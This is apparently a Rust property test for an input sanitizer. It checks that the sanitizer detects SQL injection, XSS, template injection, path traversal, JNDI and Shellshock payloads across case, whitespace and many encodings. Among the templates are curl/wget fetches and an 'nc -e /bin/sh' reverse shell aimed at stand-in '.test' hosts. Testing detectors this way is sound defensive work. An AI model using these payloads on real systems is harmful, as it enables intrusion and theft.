@@ -1,0 +1,213 @@
+//! An attack stays an attack when what does not matter to it is changed: numbers, literals, names, case, white space, and
+//! the encoding that it arrives in.
+
+use portcullis_sanitize::{Scope, inspect_value};
+use proptest::prelude::*;
+
+fn is_attack(value: &[u8]) -> bool {
+    inspect_value(value, Scope::EVERY).is_some_and(|finding| finding.confidence >= 70)
+}
+
+/// `#` stands for a number, `@` for a name, `^` for a literal, `_` for white space; letters change their case.
+const SQL: &[&str] = &[
+    "#_or_#=#",
+    "^'_or_'^'='^",
+    "^'_or_#=#_--_",
+    "^')_or_('^'='^",
+    "^\"_or_\"^\"=\"^",
+    "#_union_select_@,@_from_@--",
+    "-#'_union_all_select_null,null,@_from_@#",
+    "#;_drop_table_@",
+    "#;_delete_from_@_where_@=#",
+    "^';_insert_into_@_values_(#)--",
+    "#;_update_@_set_@=#",
+    "#_and_sleep(#)",
+    "#'_and_pg_sleep(#)--",
+    "#;_waitfor_delay_'0:0:#'--",
+    "#_and_(select_count(*)_from_@)_>_#",
+    "#_(select_case_when_(#=#)_then_#_else_#_end)",
+    "#'_and_ascii(substring((select_@_from_@),#,#))>#--",
+    "^'||(select_@_from_@)||'^",
+    "#_and_extractvalue(#,concat(0x7e,version()))",
+    "#_order_by_#--",
+    "#'_having_#=#--",
+    "#)_and_#=cast((select_@_from_@)_as_int)--",
+    "#_into_outfile_'^'",
+    "^'_and_#=utl_inaddr.get_host_address((select_@_from_@))--",
+];
+
+/// `~` stands for white space within a tag; the rest as above.
+const MARKUP: &[&str] = &[
+    "<script>@(#)</script>",
+    "<script~src=//@.test></script>",
+    "<img~src=@~onerror=@(#)>",
+    "<svg/onload=@(#)>",
+    "<@~onpointerenter=@(#)>^</@>",
+    "<a~href=\"javascript:@(#)\">^</a>",
+    "<iframe~src=//@.test>",
+    "<body~onload='@(#)'>",
+    "\"><script>@(#)</script>",
+    "'><img~src=@~onerror=@(#)>",
+    "<math><a~xlink:href=javascript:@(#)>",
+    "<div~style=\"width:expression(@(#))\">",
+    "</textarea><script>@(#)</script>",
+];
+
+/// What case matters to.
+const EXACT: &[&str] = &[
+    "';alert(#)//",
+    "\"-alert(#)-\"",
+    "${alert(#)}",
+    "{{constructor.constructor('@(#)')()}}",
+    "; cat /etc/@/@ ",
+    "^ && wget http://@.test/#",
+    "$(curl http://@.test/#)",
+    "| nc -e /bin/sh @.test #",
+    "../../../etc/passwd",
+    "..\\..\\..\\windows\\win.ini",
+    "${jndi:ldap://@.test/^}",
+    "() { :; }; /bin/bash -c \"@ #\"",
+];
+
+fn fill(template: &str, words: &[String], numbers: &[u32], space: &str, gap: &str) -> String {
+    let (mut words, mut numbers) = (words.iter().cycle(), numbers.iter().cycle());
+    let mut out = String::new();
+    for letter in template.chars() {
+        match letter {
+            '#' => out.push_str(&numbers.next().unwrap().to_string()),
+            '@' | '^' => out.push_str(words.next().unwrap()),
+            '_' => out.push_str(space),
+            '~' => out.push_str(gap),
+            other => out.push(other),
+        }
+    }
+    out
+}
+
+/// Words that have no meaning in any of the languages.
+fn word() -> impl Strategy<Value = String> {
+    "(v|q|z)[a-z]{2,7}[xz]"
+}
+
+fn cased(text: &str, pattern: u64) -> String {
+    let turned = text.chars().enumerate().map(|(index, letter)| {
+        if pattern >> (index % 64) & 1 == 1 {
+            letter.to_ascii_uppercase()
+        } else {
+            letter.to_ascii_lowercase()
+        }
+    });
+    turned.collect()
+}
+
+fn each(value: &[u8], form: impl Fn(u8) -> String) -> Vec<u8> {
+    value.iter().map(|byte| form(*byte)).collect::<String>().into_bytes()
+}
+
+fn special(value: &[u8], form: impl Fn(u8) -> String) -> Vec<u8> {
+    each(value, |byte| if byte.is_ascii_alphanumeric() { char::from(byte).to_string() } else { form(byte) })
+}
+
+fn base64(value: &[u8], alphabet: &[u8; 64], padding: bool) -> Vec<u8> {
+    let mut out = Vec::new();
+    for chunk in value.chunks(3) {
+        let bits =
+            chunk.iter().fold(0_u32, |bits, byte| bits << 8 | u32::from(*byte)) << (8 * (3 - chunk.len()));
+        for digit in 0..=chunk.len() {
+            out.push(alphabet[(bits >> (18 - 6 * digit) & 63) as usize]);
+        }
+        if padding {
+            out.resize(out.len() + 3 - chunk.len(), b'=');
+        }
+    }
+    out
+}
+
+const STANDARD: &[u8; 64] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
+const URL_SAFE: &[u8; 64] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_";
+
+/// The value in every encoding that applications, templates and browsers undo.
+fn encodings(value: &[u8]) -> Vec<(&'static str, Vec<u8>)> {
+    let plain = base64(value, STANDARD, true);
+    vec![
+        ("as it is", value.to_vec()),
+        ("percent", each(value, |b| format!("%{b:02x}"))),
+        ("percent twice", each(value, |b| format!("%25{b:02X}"))),
+        ("%u", each(value, |b| format!("%u{b:04x}"))),
+        ("decimal references", each(value, |b| format!("&#{b};"))),
+        ("hexadecimal references", each(value, |b| format!("&#x{b:04X};"))),
+        ("\\u", each(value, |b| format!("\\u{b:04x}"))),
+        ("\\x", special(value, |b| format!("\\x{b:02x}"))),
+        ("octal", each(value, |b| format!("\\{b:03o}"))),
+        (
+            "UTF-7",
+            special(value, |b| format!("+{}-", String::from_utf8_lossy(&base64(&[0, b], STANDARD, false)))),
+        ),
+        (
+            "full width",
+            each(value, |b| {
+                let wide = if b > 0x20 { u32::from(b) + 0xfee0 } else { u32::from(b) };
+                char::from_u32(wide).unwrap().to_string()
+            }),
+        ),
+        ("base64 of base64", base64(&plain, STANDARD, true)),
+        ("base64 in a data URL", [b"data:text/plain;base64,", &plain[..]].concat()),
+        ("base64", plain),
+        ("base64url", base64(value, URL_SAFE, false)),
+        ("hexadecimal", each(value, |b| format!("{b:02x}"))),
+        ("0x", [b"0x".to_vec(), each(value, |b| format!("{b:02X}"))].concat()),
+    ]
+}
+
+fn stays(value: &str) {
+    for (encoding, encoded) in encodings(value.as_bytes()) {
+        assert!(is_attack(&encoded), "missed as {encoding}: {value}");
+    }
+}
+
+proptest! {
+    #![proptest_config(ProptestConfig::with_cases(64))]
+
+    #[test]
+    fn sql(
+        words in proptest::collection::vec(word(), 4),
+        numbers in proptest::collection::vec(1_u32..9999, 4),
+        case in any::<u64>(),
+        space in 0_usize..6,
+    ) {
+        let space = [" ", "\t", "\n", "/**/", "  ", "\u{b}"][space];
+        for template in SQL {
+            // A hash ends a line: what is white space before must not be a part of the comment.
+            stays(&cased(&fill(template, &words, &numbers, space, " "), case));
+        }
+    }
+
+    #[test]
+    fn markup(
+        words in proptest::collection::vec(word(), 4),
+        numbers in proptest::collection::vec(1_u32..9999, 4),
+        case in any::<u64>(),
+        gap in 0_usize..5,
+    ) {
+        let gap = [" ", "\t", "\n", "/", "\u{c}"][gap];
+        for template in MARKUP {
+            stays(&cased(&fill(template, &words, &numbers, " ", gap), case));
+        }
+    }
+
+    #[test]
+    fn the_rest(
+        words in proptest::collection::vec(word(), 4),
+        numbers in proptest::collection::vec(1_u32..9999, 4),
+    ) {
+        for template in EXACT {
+            stays(&fill(template, &words, &numbers, " ", " "));
+        }
+    }
+
+    #[test]
+    fn comments_in_words(words in proptest::collection::vec(word(), 2), cut in 1_usize..5) {
+        let value = format!("1 {}/**/{} sel/*{}*/ect {} from {}", &"union"[..cut], &"union"[cut..], words[0], words[0], words[1]);
+        prop_assert!(is_attack(value.as_bytes()), "{}", value);
+    }
+}
